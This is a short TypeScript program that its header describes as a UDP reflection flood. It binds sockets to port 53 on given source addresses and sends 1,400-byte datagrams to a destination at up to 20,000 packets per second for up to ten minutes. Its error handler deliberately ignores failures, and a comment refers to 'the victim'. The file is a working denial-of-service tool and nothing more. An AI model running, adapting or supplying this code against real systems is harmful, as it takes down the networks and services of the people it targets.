/**
 * A UDP reflection flood, as a program: `loop-flood.ts DESTINATION PACKETS-PER-SECOND SOURCE…` sends
 * datagrams of 1,400 bytes from port 53 of each source address in turn, until SIGTERM, and never for
 * longer than ten minutes. It says when it began and ended, one JSON line each.
 */
import { createSocket, type Socket } from 'node:dgram'

const PAYLOAD = Buffer.alloc(1_400, 0x2a)
const TICK_MS = 5
const SECONDS_MAX = 600
const PACKETS_PER_SECOND_MAX = 20_000

const [destination = '', rateText = '', ...sources] = process.argv.slice(2)
const rate = Math.min(Number(rateText), PACKETS_PER_SECOND_MAX)

const sockets = await Promise.all(sources.map(bound))
let sent = 0
const startedMs = Date.now()
const timer = setInterval(burst, TICK_MS)
process.once('SIGTERM', end)
burst()
say({ startedMs })

/** Sends what is due by now; a tick that comes late sends more, up to a tenth of a second's share. */
function burst(): void {
  const elapsedMs = Date.now() - startedMs
  if (elapsedMs >= SECONDS_MAX * 1_000) {
    end()
    return
  }
  const due = Math.min(Math.floor((elapsedMs / 1_000) * rate) + 1 - sent, rate / 10)
  for (let left = due; left > 0; left--) {
    sockets[sent % sockets.length]?.send(PAYLOAD, 40_000, destination)
    sent += 1
  }
}

function end(): void {
  clearInterval(timer)
  say({ endedMs: Date.now(), sent })
  for (const socket of sockets) socket.close()
}

async function bound(address: string): Promise<Socket> {
  const socket = createSocket('udp4')
  // A full queue of the device, or no port at the victim, is no reason to stop.
  socket.on('error', () => undefined)
  await new Promise<void>(resolve => socket.bind(53, address, resolve))
  return socket
}

function say(line: object): void {
  process.stdout.write(`${JSON.stringify(line)}\n`)
}
